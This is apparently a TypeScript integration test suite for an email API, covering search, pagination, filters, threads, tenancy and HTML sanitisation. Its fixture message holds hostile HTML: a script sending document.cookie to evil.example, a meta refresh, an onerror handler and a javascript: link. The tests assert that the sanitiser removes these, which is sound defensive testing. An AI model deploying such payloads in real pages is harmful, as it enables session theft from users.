import { readFile } from 'node:fs/promises';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect } from 'vitest';
import type { Orm } from '../../src/db/orm.ts';
import type { EmailDetail, EmailListItem } from '../../src/read-models/api-email.schema.ts';
import { startApi, type ApiHarness } from '../helpers/api-harness.ts';
import { buildEml } from '../helpers/build-eml.ts';
import { it } from '../helpers/fixtures.ts';
import { exportOf, ingestRaw, testPool } from '../helpers/ingest.ts';
import { createMailbox, openTestOrm } from '../helpers/test-orm.ts';

/**
 * `/api/v1/emails`: search, filters, keyset pages, one email with sanitised HTML, its thread,
 * tenancy and bad parameters, over mail ingested through the real pipeline (corpus messages in
 * German, Portuguese and Japanese, and messages built here).
 */
const CORPUS = fileURLToPath(new URL('../../fixtures/corpora/emails/', import.meta.url));
const GERMAN = 'stalwart__thirdparty_015.eml'; // "Beste Grüße", from jsterr@proxforge.de
const PORTUGUESE = 'mikelmail__error_emails_invalid_subject_characters.eml'; // "… Final Verão …"
const JAPANESE = 'mikelmail__multi_charset_japanese_shift_jis.eml'; // "このメールはテスト用のメールです。"
const JAPANESE_2 = 'mimekit__messages_japanese.eml'; // "日本語メールテスト"

const OWNER = 'rep@northwind-sales.com';
const JANE = 'jane@acme-corp.com';

const PNG =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
const PDF = '%PDF-1.4 pricing';

/** multipart/mixed: text + hostile HTML + an inline cid image, and a PDF attachment. */
function htmlMessage(): Buffer {
  const html = [
    '<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<script>document.location="https://evil.example/?c="+document.cookie</script></head>',
    '<body><p>Quarterly pricing attached.</p>',
    '<img src="x" onerror="alert(1)">',
    '<img src="https://tracker.example/open.gif?id=42" width="1" height="1">',
    '<img src="cid:logo@acme-corp.com" alt="Acme">',
    '<a href="javascript:alert(2)">click</a> <a href="https://acme-corp.com/pricing">pricing</a>',
    '</body></html>',
  ].join('\r\n');
  return Buffer.from(
    [
      `From: Jane Doe <${JANE}>`,
      `To: ${OWNER}`,
      'Subject: Pricing sheet',
      'Date: Wed, 04 Mar 2026 08:00:00 +0000',
      'Message-ID: <html-1@acme-corp.com>',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="mixed"',
      '',
      '--mixed',
      'Content-Type: multipart/related; boundary="related"',
      '',
      '--related',
      'Content-Type: multipart/alternative; boundary="alt"',
      '',
      '--alt',
      'Content-Type: text/plain; charset=utf-8',
      '',
      'Quarterly pricing attached.',
      '--alt',
      'Content-Type: text/html; charset=utf-8',
      '',
      html,
      '--alt--',
      '--related',
      'Content-Type: image/png',
      'Content-Transfer-Encoding: base64',
      'Content-ID: <logo@acme-corp.com>',
      'Content-Disposition: inline; filename="logo.png"',
      '',
      PNG,
      '--related--',
      '--mixed',
      'Content-Type: application/pdf',
      'Content-Transfer-Encoding: base64',
      'Content-Disposition: attachment; filename="pricing.pdf"',
      '',
      Buffer.from(PDF).toString('base64'),
      '--mixed--',
      '',
    ].join('\r\n'),
  );
}

const thread = [
  buildEml({
    from: `Jane Doe <${JANE}>`,
    to: [OWNER],
    subject: 'Quarterly review',
    date: 'Sun, 01 Mar 2026 09:00:00 +0000',
    messageId: '<t1@acme-corp.com>',
    body: 'Can we meet to go over the numbers?',
  }),
  buildEml({
    from: `Rep <${OWNER}>`,
    to: [`Jane Doe <${JANE}>`],
    subject: 'Re: Quarterly review',
    date: 'Mon, 02 Mar 2026 10:00:00 +0000',
    messageId: '<t2@northwind-sales.com>',
    inReplyTo: '<t1@acme-corp.com>',
    references: ['<t1@acme-corp.com>'],
    body: 'Sure, Tuesday works for me.',
  }),
  buildEml({
    from: `Jane Doe <${JANE}>`,
    to: [OWNER],
    subject: 'Re: Quarterly review',
    date: 'Tue, 03 Mar 2026 11:00:00 +0000',
    messageId: '<t3@acme-corp.com>',
    inReplyTo: '<t2@northwind-sales.com>',
    references: ['<t1@acme-corp.com>', '<t2@northwind-sales.com>'],
    body: 'Great, see you then. The quarterly figures are ready.',
  }),
];

/** Two messages sent in the same second: the id breaks the tie, and no page loses one. */
const twins = [1, 2].map((n) =>
  buildEml({
    from: `Bob Stone <bob@kestrel-labs.com>`,
    to: [OWNER],
    subject: `Twin ${String(n)}`,
    date: 'Sun, 01 Feb 2026 12:00:00 +0000',
    messageId: `<twin-${String(n)}@kestrel-labs.com>`,
    body: 'Same second as the other one.',
  }),
);

const other = buildEml({
  from: `Carl Ops <carl@kestrel-labs.com>`,
  to: ['ops@northwind-sales.com'],
  subject: 'Shipping window',
  date: 'Thu, 05 Mar 2026 07:00:00 +0000',
  messageId: '<ops-1@kestrel-labs.com>',
  body: 'The shipping window moves to April.',
});

interface Page {
  items: EmailListItem[];
  nextCursor: string | null;
}

let orm: Orm;
let api: ApiHarness;
let mailbox: string;
let opsMailbox: string;
let all: EmailListItem[];

const list = async (query: string, as?: string): Promise<Page> => {
  const res = await api.call('GET', `/api/v1/emails${query}`, as === undefined ? {} : { as });
  expect(res.statusCode, res.body).toBe(200);
  return res.json<Page>();
};
const subjects = (page: Page) => page.items.map((e) => e.subject);
const byMessageId = (id: string): EmailListItem => {
  const found = all.find((e) => e.internetMessageId === id);
  expect(found, id).toBeDefined();
  return found as EmailListItem;
};

beforeAll(async () => {
  orm = await openTestOrm();
  api = await startApi(orm);
  mailbox = await createMailbox(orm, api.workspaceId, OWNER);
  opsMailbox = await createMailbox(orm, api.workspaceId, 'ops@northwind-sales.com');
  const corpus = await Promise.all(
    [GERMAN, PORTUGUESE, JAPANESE, JAPANESE_2].map((f) => readFile(`${CORPUS}${f}`)),
  );
  const pool = testPool();
  try {
    const main = await ingestRaw(orm, pool, api.workspaceId, mailbox, [
      ...corpus,
      ...thread,
      ...twins,
      htmlMessage(),
    ]);
    expect(main.outcomes.map((o) => o.status)).toEqual(Array(10).fill('stored'));
    const ops = await ingestRaw(orm, pool, api.workspaceId, opsMailbox, [other]);
    expect(ops.outcomes.map((o) => o.status)).toEqual(['stored']);
  } finally {
    await pool.close();
  }
  all = (await list('?limit=200')).items;
});
afterAll(async () => {
  await api.close();
  await orm.close(true);
});

describe('GET /api/v1/emails', () => {
  it('lists every email newest first (no date last), the id breaking ties', () => {
    expect(all).toHaveLength(11);
    const key = (e: EmailListItem) => e.sentAt ?? '';
    const expected = [...all].sort((a, b) =>
      key(a) === key(b) ? (a.id < b.id ? 1 : -1) : key(a) < key(b) ? 1 : -1,
    );
    expect(all.map((e) => e.id)).toEqual(expected.map((e) => e.id));
    expect(all.at(0)?.subject).toBe('Shipping window');
    expect(all.at(-1)?.sentAt).toBeNull();
    expect(all.at(-1)?.subject).toMatch(/Verão/);
    const twinIds = all.filter((e) => e.subject.startsWith('Twin')).map((e) => e.id);
    expect(twinIds).toEqual([...twinIds].sort().reverse());
  });

  it('walks pages of 2 with the cursor: every id exactly once, in order', async () => {
    const seen: string[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const page: Page = await list(
        `?limit=2${cursor === null ? '' : `&cursor=${encodeURIComponent(cursor)}`}`,
      );
      expect(page.items.length).toBeLessThanOrEqual(2);
      seen.push(...page.items.map((e) => e.id));
      cursor = page.nextCursor;
      pages++;
      expect(pages).toBeLessThan(20);
    } while (cursor !== null);
    expect(pages).toBe(6);
    expect(seen).toEqual(all.map((e) => e.id));
  });

  it('shows export’s fields plus mailboxId, snippet and hasAttachments', async () => {
    const exported = (await exportOf(orm, api.workspaceId)).emails.find(
      (e) => e.internetMessageId === '<html-1@acme-corp.com>',
    );
    const item = byMessageId('<html-1@acme-corp.com>');
    expect(item).toEqual({
      ...exported,
      mailboxId: mailbox,
      snippet: 'Quarterly pricing attached.',
      hasAttachments: true,
    });
    expect(item.participants).toEqual([
      { email: JANE, role: 'from', personEmail: JANE, companyDomain: 'acme-corp.com' },
      { email: OWNER, role: 'to', personEmail: null, companyDomain: null },
    ]);
    expect(byMessageId('<t1@acme-corp.com>').hasAttachments).toBe(false);
  });

  it('filters by mailbox, person, company, address, domain, direction and dates', async () => {
    const ex = await exportOf(orm, api.workspaceId);
    const jane = ex.people.find((p) => p.email === JANE);
    const acme = ex.companies.find((c) => c.domain === 'acme-corp.com');
    expect(jane).toBeDefined();
    expect(acme).toBeDefined();
    const janeMail = [
      'Pricing sheet',
      'Re: Quarterly review',
      'Re: Quarterly review',
      'Quarterly review',
    ];
    expect(subjects(await list(`?personId=${jane?.id ?? ''}`))).toEqual(janeMail);
    expect(subjects(await list(`?companyId=${acme?.id ?? ''}`))).toEqual(janeMail);
    expect(
      subjects(await list(`?personEmail=${encodeURIComponent('Jane@ACME-corp.com')}`)),
    ).toEqual(janeMail);
    expect(subjects(await list('?companyDomain=ACME-corp.com'))).toEqual(janeMail);
    expect(subjects(await list(`?mailboxId=${opsMailbox}`))).toEqual(['Shipping window']);
    expect(subjects(await list('?direction=outbound'))).toEqual(['Re: Quarterly review']);
    expect((await list('?direction=inbound')).items).toHaveLength(10);
    expect(
      subjects(
        await list(
          `?after=${encodeURIComponent('2026-03-01T09:00:00Z')}&before=${encodeURIComponent('2026-03-04T09:00:00+01:00')}`,
        ),
      ),
    ).toEqual(['Re: Quarterly review', 'Re: Quarterly review']);
    expect(
      subjects(await list(`?personId=${jane?.id ?? ''}&direction=outbound&q=tuesday`)),
    ).toEqual(['Re: Quarterly review']);
  });

  it('leaves deleted emails out unless includeDeleted=true', async () => {
    const twin = all.find((e) => e.subject === 'Twin 1');
    await orm.em.fork().execute('update email set deleted = true where id = ?', [twin?.id]);
    try {
      const ids = (await list('?limit=200')).items.map((e) => e.id);
      expect(ids).toHaveLength(10);
      expect(ids).not.toContain(twin?.id);
      const withDeleted = (await list('?limit=200&includeDeleted=true')).items;
      expect(withDeleted.map((e) => e.id)).toEqual(all.map((e) => e.id));
      expect(withDeleted.find((e) => e.id === twin?.id)?.deleted).toBe(true);
    } finally {
      await orm.em.fork().execute('update email set deleted = false where id = ?', [twin?.id]);
    }
  });
});

describe('full-text search (q)', () => {
  const search = async (q: string) => subjects(await list(`?q=${encodeURIComponent(q)}`));

  it('finds German, Portuguese and Japanese words as written, and not a word that is absent', async () => {
    const german = 'Re: (#5290765) Proxmox Shop E-Mails';
    expect(await search('Grüße')).toEqual([german]);
    expect(await search('GRÜSSE')).toEqual([]);
    expect(await search('Einschätzugen')).toEqual([german]);
    const portuguese = 'Formação FrenetikPolis: Mega Campanha Final Verão | Cursos de Setembro';
    expect(await search('verão')).toEqual([portuguese]);
    expect(await search('formação')).toEqual([portuguese]);
    expect(await search('verao')).toEqual([]);
    // Inside a sentence with no spaces, and across the subject of another message.
    expect(await search('テスト用')).toEqual(['test']);
    expect(await search('よろしくお願い')).toEqual(['test']);
    expect(await search('日本語')).toEqual(['日本語メールテスト (testing Japanese emails)']);
    expect(await search('東京')).toEqual([]);
    expect(await search('Stoiko')).toEqual([german]);
    expect(await search('zebra')).toEqual([]);
  });

  it('searches participants’ names and addresses', async () => {
    const janeMail = [
      'Pricing sheet',
      'Re: Quarterly review',
      'Re: Quarterly review',
      'Quarterly review',
    ];
    expect((await search('jane doe')).sort()).toEqual([...janeMail].sort());
    expect((await search(JANE)).sort()).toEqual([...janeMail].sort());
    expect(await search('proxforge')).toEqual(['Re: (#5290765) Proxmox Shop E-Mails']);
  });

  it('ranks a subject match above a body match, and web-search syntax works', async () => {
    const quarterly = await search('quarterly');
    expect(quarterly).toHaveLength(4);
    expect(quarterly.at(-1)).toBe('Pricing sheet');
    expect(await search('"see you then"')).toEqual(['Re: Quarterly review']);
    expect(await search('"then see you"')).toEqual([]);
    expect(await search('quarterly -tuesday -numbers -pricing')).toEqual(['Re: Quarterly review']);
    expect((await search('shipping or stoiko')).sort()).toEqual(
      ['Re: (#5290765) Proxmox Shop E-Mails', 'Shipping window'].sort(),
    );
  });

  it('pages a search in rank order with a cursor carrying the rank', async () => {
    const whole = (await list('?q=quarterly&limit=200')).items.map((e) => e.id);
    const seen: string[] = [];
    let cursor: string | null = null;
    do {
      const page: Page = await list(
        `?q=quarterly&limit=1${cursor === null ? '' : `&cursor=${encodeURIComponent(cursor)}`}`,
      );
      seen.push(...page.items.map((e) => e.id));
      cursor = page.nextCursor;
      expect(seen.length).toBeLessThan(10);
    } while (cursor !== null);
    expect(seen).toEqual(whole);
    // A search's cursor does not resume a plain list, nor the other way round.
    const searchCursor = (await list('?q=quarterly&limit=1')).nextCursor ?? '';
    const plainCursor = (await list('?limit=1')).nextCursor ?? '';
    for (const url of [
      `/api/v1/emails?cursor=${searchCursor}`,
      `/api/v1/emails?q=quarterly&cursor=${plainCursor}`,
    ]) {
      const res = await api.call('GET', url);
      expect(res.statusCode).toBe(400);
      expect(res.json<{ error: { message: string } }>().error.message).toMatch(/^cursor: /);
    }
  });
});

describe('GET /api/v1/emails/{id} and /thread', () => {
  it('serves the text, the sanitised HTML, cid references, blocked images and attachments', async () => {
    const id = byMessageId('<html-1@acme-corp.com>').id;
    const res = await api.call('GET', `/api/v1/emails/${id}`);
    expect(res.statusCode).toBe(200);
    const email = res.json<EmailDetail>();
    expect(email).toMatchObject({
      id,
      subject: 'Pricing sheet',
      textBody: 'Quarterly pricing attached.',
      textBodyTruncated: false,
      htmlTruncated: false,
      cidReferences: ['logo@acme-corp.com'],
      remoteImagesBlocked: 1,
      invitation: null,
    });
    expect(email.attachments).toEqual([
      {
        filename: 'logo.png',
        contentType: 'image/png',
        size: Buffer.from(PNG, 'base64').length,
        inline: true,
      },
      { filename: 'pricing.pdf', contentType: 'application/pdf', size: PDF.length, inline: false },
    ]);
    const html = email.html ?? '';
    expect(html).toContain('<p>Quarterly pricing attached.</p>');
    expect(html).not.toMatch(/<script|onerror|alert|evil\.example|refresh|javascript:/i);
    expect(html).toContain('data-blocked-src="https://tracker.example/open.gif?id=42"');
    expect(html).not.toMatch(/\ssrc="https?:/);
    expect(html).toContain('src="cid:logo@acme-corp.com"');
    expect(html).toContain(
      '<a href="https://acme-corp.com/pricing" target="_blank" rel="noopener noreferrer">pricing</a>',
    );
    // A text-only message has no HTML.
    const plain = await api.call('GET', `/api/v1/emails/${byMessageId('<t1@acme-corp.com>').id}`);
    expect(plain.json<EmailDetail>()).toMatchObject({
      html: null,
      cidReferences: [],
      remoteImagesBlocked: 0,
      attachments: [],
      textBody: 'Can we meet to go over the numbers?',
    });
  });

  it('answers the conversation oldest first, from any of its emails', async () => {
    const ids = ['<t1@acme-corp.com>', '<t2@northwind-sales.com>', '<t3@acme-corp.com>'].map(
      (m) => byMessageId(m).id,
    );
    for (const id of ids) {
      const res = await api.call('GET', `/api/v1/emails/${id}/thread`);
      expect(res.statusCode).toBe(200);
      const items = res.json<{ items: EmailListItem[] }>().items;
      expect(items.map((e) => e.id)).toEqual(ids);
      expect(new Set(items.map((e) => e.threadKey)).size).toBe(1);
    }
    const single = byMessageId('<html-1@acme-corp.com>').id;
    const alone = await api.call('GET', `/api/v1/emails/${single}/thread`);
    expect(alone.json<{ items: EmailListItem[] }>().items.map((e) => e.id)).toEqual([single]);
  });
});

describe('tenancy and bad parameters', () => {
  it('shows another workspace’s key none of these emails', async () => {
    const as = api.other.key;
    expect((await list('?limit=200', as)).items).toEqual([]);
    expect((await list('?q=quarterly', as)).items).toEqual([]);
    expect((await list(`?mailboxId=${mailbox}`, as)).items).toEqual([]);
    for (const e of all) {
      for (const url of [`/api/v1/emails/${e.id}`, `/api/v1/emails/${e.id}/thread`]) {
        const res = await api.call('GET', url, { as });
        expect(res.statusCode, url).toBe(404);
        expect(res.json<{ error: { code: string } }>().error.code).toBe('NOT_FOUND');
      }
    }
  });

  it('answers 400 naming the parameter', async () => {
    const cases: [string, RegExp][] = [
      ['?direction=sideways', /^querystring\.direction: /],
      ['?after=yesterday', /^querystring\.after: /],
      ['?before=2026-13-01T00:00:00Z', /^querystring\.before: /],
      ['?limit=0', /^querystring\.limit: /],
      ['?limit=201', /^querystring\.limit: /],
      ['?personId=not-a-uuid', /^querystring\.personId: /],
      ['?includeDeleted=yes', /^querystring\.includeDeleted: /],
      ['?q=%20%20', /^querystring\.q: /],
      ['?q=%E3%80%82', /^querystring\.q: /],
      ['?personEmail=nobody', /^querystring\.personEmail: /],
      ['?companyDomain=localhost', /^querystring\.companyDomain: /],
      ['?cursor=garbage', /^cursor: /],
    ];
    for (const [query, message] of cases) {
      const res = await api.call('GET', `/api/v1/emails${query}`);
      expect(res.statusCode, query).toBe(400);
      expect(res.json<{ error: { code: string; message: string } }>().error.message).toMatch(
        message,
      );
    }
    const bad = await api.call('GET', '/api/v1/emails/not-a-uuid/thread');
    expect(bad.statusCode).toBe(400);
    expect(bad.json<{ error: { message: string } }>().error.message).toMatch(/^params\.id: /);
  });
});
